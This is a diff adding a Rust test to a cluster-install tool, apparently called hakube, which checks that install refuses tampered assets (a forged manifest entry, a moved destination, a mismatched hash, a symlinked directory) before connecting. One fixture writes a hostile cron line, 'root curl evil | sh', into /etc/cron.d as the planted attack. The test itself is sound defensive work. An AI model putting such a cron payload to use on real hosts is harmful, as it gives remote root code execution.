@@ -79,3 +79,67 @@ fn render_refuses_a_symlinked_directory_in_the_assets() {
     assert_eq!((mode("id_ed25519"), mode("known_hosts")), (0o600, 0o644));
     assert_eq!(std::fs::read_dir(&ssh).unwrap().count(), 2);
 }
+
+/// The sha256 hakube-render records, for forging manifest entries.
+fn sha256(path: &Path) -> String {
+    hakube_render::manifest::sha256_hex(&std::fs::read(path).unwrap())
+}
+
+/// Item 4: install verifies the assets before it plans, connects or ships anything: an
+/// entry added to ship a file into /etc/cron.d (with its true sha256), a real entry whose
+/// destination was moved there, a file whose bytes no longer match, and a linked node
+/// directory are each refused by name, with what to run. `--dry-run` refuses the same.
+#[test]
+fn install_verifies_the_assets_before_anything_connects() {
+    let dir = tempfile::tempdir().unwrap();
+    let lab = sample("single-master.json");
+    assert_eq!(hakube(&["render", &lab], dir.path()).status.code(), Some(0));
+    let assets = dir.path().join("assets");
+    let manifest = std::fs::read_to_string(assets.join("manifest.json")).unwrap();
+    let install = |args: &[&str]| {
+        let mut all = vec!["install", lab.as_str()];
+        all.extend_from_slice(args);
+        hakube(&all, dir.path())
+    };
+    let refused = |needle: &str| {
+        for args in [&["--dry-run"][..], &["--connect-timeout", "1"][..]] {
+            let out = install(args);
+            assert_eq!(out.status.code(), Some(1), "{args:?}: {}", text(&out));
+            assert!(text(&out).contains(needle), "{args:?}: {}", text(&out));
+            assert!(!text(&out).contains("plan for"), "planned: {}", text(&out));
+        }
+        assert!(!dir.path().join("logs").exists(), "install started");
+    };
+
+    // A file of the attacker's, with its true sha256, shipped into /etc/cron.d.
+    std::fs::write(assets.join("evil"), "* * * * * root curl evil | sh\n").unwrap();
+    let evil = sha256(&assets.join("evil"));
+    edit_manifest(&assets, |m| {
+        m["files"]["evil"] = serde_json::json!({
+            "sha256": evil, "mode": "0644", "secret": false, "nodes": ["master0"], "destination": "/etc/cron.d/evil"
+        })
+    });
+    refused("assets/manifest.json: entry \"evil\" is not a file hakube renders");
+    // A real entry, its destination moved.
+    std::fs::write(assets.join("manifest.json"), &manifest).unwrap();
+    edit_manifest(&assets, |m| m["files"]["nodes/master0/boot.sh"]["destination"] = "/etc/cron.d/boot".into());
+    refused("entry \"nodes/master0/boot.sh\": destination \"/etc/cron.d/boot\", but hakube ships it to \"/etc/hakube/boot.sh\"");
+    // A file that no longer matches its sha256 (not only the ones that ship to targets).
+    std::fs::write(assets.join("manifest.json"), &manifest).unwrap();
+    let hash = assets.join("token/discovery-token-ca-cert-hash");
+    let saved = std::fs::read(&hash).unwrap();
+    std::fs::write(&hash, "sha256:0000\n").unwrap();
+    refused(
+        "assets/token/discovery-token-ca-cert-hash: does not match the sha256 in manifest.json; run `hakube render`",
+    );
+    std::fs::write(&hash, saved).unwrap();
+    // A node directory replaced by a link to a copy (every sha256 still matches).
+    let real = dir.path().join("elsewhere");
+    std::fs::rename(assets.join("nodes/worker0"), &real).unwrap();
+    std::os::unix::fs::symlink(&real, assets.join("nodes/worker0")).unwrap();
+    refused("assets/nodes/worker0 is a symbolic link");
+    std::fs::remove_file(assets.join("nodes/worker0")).unwrap();
+    std::fs::rename(&real, assets.join("nodes/worker0")).unwrap();
+    let out = install(&["--dry-run"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
+}
